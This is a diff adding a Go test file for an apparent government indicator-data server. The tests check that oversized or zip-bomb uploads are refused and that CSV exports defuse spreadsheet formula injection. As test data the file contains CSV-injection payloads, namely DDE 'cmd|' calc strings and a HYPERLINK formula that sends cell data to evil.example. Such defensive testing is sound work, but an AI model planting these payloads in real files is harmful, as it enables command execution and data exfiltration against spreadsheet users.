@@ -1,0 +1,183 @@
+package server_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"strings"
+	"testing"
+
+	"lindu/internal/access"
+	"lindu/internal/domain"
+	"lindu/internal/kla"
+	"lindu/internal/server"
+	"lindu/internal/spreadsheet/spreadsheettest"
+	"lindu/internal/store"
+	"lindu/internal/store/storetest"
+)
+
+// klaOperatorWorld is a world with the shipped catalogue and "op-kes", an
+// OPD operator of the health agency (dinkes) in Bengkayang.
+func klaOperatorWorld(t *testing.T, d store.Dialect) *world {
+	w := newWorld(t, d, server.Options{RootRegion: "61.07"})
+	if _, err := kla.EnsureShipped(bg, w.st); err != nil {
+		t.Fatal(err)
+	}
+	sys := access.System("test")
+	op, err := w.st.CreateUser(bg, sys, domain.NewUser{Username: "op-kes", Role: domain.RoleOPDOperator, RegionCode: "61.07", Password: pw})
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.users["op-kes"] = op
+	if err := w.st.SetUserAgency(bg, sys, op.ID, "dinkes"); err != nil {
+		t.Fatal(err)
+	}
+	return w
+}
+
+// stored counts what an upload could leave behind: values and evidence
+// files.
+func stored(t *testing.T, w *world) (values, files int) {
+	t.Helper()
+	vs, err := w.st.ListKLAValues(bg, access.System("test"), store.KLAValueFilter{Regime: kla.Regime2011, Year: 2025})
+	if err != nil {
+		t.Fatal(err)
+	}
+	n, err := w.st.CountKLAFiles(bg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return len(vs), n
+}
+
+// Issue 9 item 3: an operator's hostile upload is refused quickly with a
+// clear message and stores nothing: a zip bomb (300 MiB of sheet in about
+// 1 MB), a sheet that lies about its size, a CSV of 60,000 rows, a row of
+// 200 columns. A refused entry form keeps none of its evidence files.
+func TestKLAUploadBounded(t *testing.T) {
+	bomb := spreadsheettest.Bomb(300 << 20)
+	storetest.Each(t, func(t *testing.T, d store.Dialect) {
+		w := klaOperatorWorld(t, d)
+		b := w.loggedIn("op-kes")
+		b.get("/kla/isi?region=61.07&year=2025")
+		fields := map[string]string{"csrf": b.csrf, "region": "61.07", "year": "2025"}
+		v0, f0 := stored(t, w)
+		for _, c := range []struct {
+			name, file string
+			data       []byte
+			code       int
+			text       string
+		}{
+			{"zip bomb", "templat.xlsx", bomb, 413, "lebih dari 40 MiB"},
+			{"lying size", "templat.xlsx", spreadsheettest.Lying(20000, 500), 422, "XLSX"},
+			{"rows", "templat.csv", []byte("indicator,region_code,year,value\n" + strings.Repeat("11,61.07,2025,90\n", 60000)), 413, "lebih dari 20000 baris"},
+			{"columns", "templat.csv", []byte("indicator,region_code,year,value\n11,61.07,2025,90" + strings.Repeat(",x", 200) + "\n"), 413, "lebih dari 100 kolom"},
+		} {
+			code, page := b.postMultipart("/kla/unggah", fields, "file", c.file, c.data)
+			if code != c.code || !strings.Contains(page, c.text) {
+				t.Errorf("%s: %d, want %d with %q", c.name, code, c.code, c.text)
+			}
+			if v, f := stored(t, w); v != v0 || f != f0 {
+				t.Errorf("%s stored %d values, %d files", c.name, v-v0, f-f0)
+			}
+		}
+		// The same limits guard the catalogue import of an administrator.
+		a := w.loggedIn("reg-admin")
+		a.get("/kla/katalog")
+		code, page := a.postMultipart("/kla/katalog/impor", map[string]string{"csrf": a.csrf, "name": "x", "from_year": "2027"}, "file", "k.xlsx", bomb)
+		if code != 413 || !strings.Contains(page, "lebih dari 40 MiB") {
+			t.Errorf("catalogue bomb: %d", code)
+		}
+
+		// The entry form: a value that is not a number on one row, or a
+		// value the store refuses, stores no evidence file of any row.
+		evidence := []byte("%PDF-1.4 bukti")
+		for _, form := range []map[string]string{
+			{"value_11": "91", "value_9": "banyak"},
+			{"value_11": "150"}, // a percentage over 100
+			{"value_11": ""},    // evidence without a value
+		} {
+			form["csrf"], form["region"], form["year"] = b.csrf, "61.07", "2025"
+			code, _ := b.postMultipart("/kla/isi", form, "file_11", "bukti.pdf", evidence)
+			if code != 422 {
+				t.Errorf("refused form %v: %d", form, code)
+			}
+			if v, f := stored(t, w); v != v0 || f != f0 {
+				t.Errorf("refused form %v stored %d values, %d files", form, v-v0, f-f0)
+			}
+		}
+		if code, _ := b.postMultipart("/kla/isi", map[string]string{"csrf": b.csrf, "region": "61.07", "year": "2025", "value_11": "91"},
+			"file_11", "bukti.pdf", evidence); code != 303 {
+			t.Fatalf("good form: %d", code)
+		}
+		vs, _ := w.st.ListKLAValues(bg, access.System("test"), store.KLAValueFilter{Regime: kla.Regime2011, Year: 2025})
+		if v, f := stored(t, w); v != v0+1 || f != f0+1 || len(vs) == 0 || vs[0].FileID == "" {
+			t.Errorf("good form stored %d values, %d files: %+v", v-v0, f-f0, vs)
+		}
+	})
+}
+
+// Issue 9 item 9: every CSV lindu serves (the bulk-entry template and the
+// dashboard export) defuses cells starting with = + - @ tab or CR, and a
+// downloaded template uploaded again imports the same text.
+func TestKLACSVExportsDefused(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, d store.Dialect) {
+		w := klaOperatorWorld(t, d)
+		sys := access.System("test")
+		inds, err := w.st.KLAIndicators(bg, kla.Regime2011)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, ind := range inds {
+			if ind.ID == "11" {
+				ind.Name = "-2+3+cmd|' /C calc'!A0"
+				ind.Source = "@SUM(1+1)*cmd|' /C calc'!A0"
+				if err := w.st.UpdateKLAIndicator(bg, sys, ind); err != nil {
+					t.Fatal(err)
+				}
+			}
+		}
+		note := "=HYPERLINK(\"http://evil.example/?x=\"&A1)"
+		if code, body := w.api("PUT", "/api/v1/kla/values", w.token("op-kes"),
+			map[string]any{"indicator": "11", "region_code": "61.07", "year": 2025, "value": 92, "note": note}); code != 200 {
+			t.Fatalf("put value: %d %v", code, body)
+		}
+		check := func(who, path string) []byte {
+			code, body, hdr := w.loggedIn(who).get(path)
+			if code != 200 || !strings.HasPrefix(hdr.Get("Content-Type"), "text/csv") {
+				t.Fatalf("%s: %d %s", path, code, hdr.Get("Content-Type"))
+			}
+			recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\xef\xbb\xbf"))).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			hostile := 0
+			for _, rec := range recs {
+				for _, c := range rec {
+					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+						t.Errorf("%s: cell %q is not defused", path, c)
+					}
+					if strings.Contains(c, "cmd|") || strings.Contains(c, "HYPERLINK") {
+						hostile++
+					}
+				}
+			}
+			if hostile == 0 {
+				t.Errorf("%s: the hostile cells are missing", path)
+			}
+			return []byte(body)
+		}
+		tpl := check("op-kes", "/kla/templat.csv?region=61.07&year=2025")
+		check("viewer", "/kla/ekspor.csv?region=61.07&year=2025")
+
+		// The downloaded template, uploaded again, keeps the note as typed.
+		b := w.loggedIn("op-kes")
+		b.get("/kla/isi?region=61.07&year=2025")
+		if code, page := b.postMultipart("/kla/unggah", map[string]string{"csrf": b.csrf, "region": "61.07", "year": "2025"}, "file", "t.csv", tpl); code != 303 {
+			t.Fatalf("template upload: %d %s", code, page[:min(len(page), 300)])
+		}
+		vs, err := w.st.ListKLAValues(bg, sys, store.KLAValueFilter{Regime: kla.Regime2011, RegionCode: "61.07", Year: 2025})
+		if err != nil || len(vs) != 1 || vs[0].Note != note || bytes.Contains([]byte(vs[0].Note), []byte("'=")) {
+			t.Errorf("note after the round trip: %+v %v", vs, err)
+		}
+	})
+}
